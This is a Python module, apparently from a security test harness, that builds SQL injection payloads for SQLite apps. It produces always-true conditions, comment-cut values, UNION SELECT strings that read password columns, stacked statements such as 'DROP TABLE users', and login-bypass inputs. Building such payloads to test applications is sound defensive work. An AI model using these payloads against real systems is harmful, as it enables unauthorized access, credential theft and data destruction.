"""SQL injection vectors (CWE-89), built for the context a value lands in.

Every function returns a list of payload strings; scenarios pick the families that fit what
they can observe. Quotes are parameters: `'` for the usual string literal, `"` for apps that quote
with double quotes (SQLite takes a double-quoted token as a string when no column has that name),
and `""` (empty) for a value placed in a numeric context.

    tautologies()                         # ' OR '1'='1 ... : a WHERE clause that is always true
    terminated("alice@example.com")       # alice@example.com'-- : the rest of the query cut off
    union_select("password", "users", columns=range(1, 5))
    stacked("DROP TABLE users")           # x'; DROP TABLE users; --   x'); DROP TABLE users; --

SQLite is the target dialect (the apps use /app/db.sqlite3): its comments are `--` and `/* */`
(`#` is not a comment in SQLite, so it is not used).
"""

from __future__ import annotations

from collections.abc import Iterable, Sequence

QUOTES: tuple[str, ...] = ("'", '"')


def tautologies(quotes: Sequence[str] = QUOTES, comment: bool = True,
                numeric: bool = True) -> list[str]:
    """Payloads that turn `... = '<value>'` into an always-true condition.

    For each quote: an unterminated form that reuses the query's own closing quote
    (`' OR '1'='1`), and with `comment` forms that cut the rest off (`' OR 1=1 --`), which
    also defeats a following `AND password = ...`. With `numeric`, `1 OR 1=1` for values placed
    in the query without quotes."""
    out: list[str] = []
    for q in quotes:
        out.append(f"{q} OR {q}1{q}={q}1")
        if comment:
            out.append(f"{q} OR 1=1 --")
            out.append(f"{q} OR {q}1{q}={q}1{q} --")
            out.append(f"{q}) OR 1=1 --")  # the value inside parentheses, e.g. lower('...')
    if numeric:
        out.append("1 OR 1=1")
        out.append("0 OR 1=1 --")
    return out


def terminated(value: str, quotes: Sequence[str] = QUOTES) -> list[str]:
    """`value` followed by a quote and a comment: the query matches `value` exactly and ignores
    the rest (e.g. a following `AND password = ...`). A secure app sees a string that matches
    nothing, so any behaviour as if `value` had been sent proves the injection."""
    out: list[str] = []
    for q in quotes:
        out.append(f"{value}{q}--")
        out.append(f"{value}{q} -- ")
        out.append(f"{value}{q}/*")
        out.append(f"{value}{q} AND {q}x{q}={q}x")
    out.append(f"{value}') --")
    return out


def always_false_then_or(value: str, column: str, quotes: Sequence[str] = QUOTES) -> list[str]:
    """`nomatch' OR <column>='<value>' --`: selects the row whose `column` is `value` through a
    string that itself matches nothing."""
    return [f"nomatch{q} OR {column}={q}{value}{q} --" for q in quotes]


def union_select(expression: str, table: str, columns: Iterable[int] = (1,),
                 quotes: Sequence[str] = QUOTES, where: str = "") -> list[str]:
    """`' UNION SELECT <expression>[, NULL...] FROM <table> --` for each column count in
    `columns` (the expression in the first position), to read `expression` out through a query
    whose result the app shows."""
    tail = f" WHERE {where}" if where else ""
    out: list[str] = []
    for q in quotes:
        for n in columns:
            cols = ", ".join([expression] + ["NULL"] * (max(n, 1) - 1))
            out.append(f"nomatch{q} UNION SELECT {cols} FROM {table}{tail} --")
    return out


def stacked(statement: str, quotes: Sequence[str] = ("'", '"', ""),
            close_paren: bool = True) -> list[str]:
    """`x'; <statement>; --`: a second statement after the intended one (works where the driver
    runs several statements, e.g. sqlite3's executescript). With `close_paren`, also
    `x'); <statement>; --` for each quote: the value is the last one inside parentheses, as in
    `INSERT ... VALUES (..., '<value>')` or a function call, where the first form is a syntax
    error and the stacked statement never runs."""
    out: list[str] = []
    for q in quotes:
        out.append(f"x{q}; {statement}; --")
        if close_paren:
            out.append(f"x{q}); {statement}; --")
    return out


def login_bypass(quotes: Sequence[str] = QUOTES) -> list[str]:
    """Tautologies for a login form's user or password field: an always-true condition and a
    comment cutting the password check off, in the forms seen in generated code."""
    out = tautologies(quotes, comment=True, numeric=False)
    for q in quotes:
        out.append(f"admin{q}--")
        out.append(f"x{q} OR {q}a{q}={q}a")
    return list(dict.fromkeys(out))
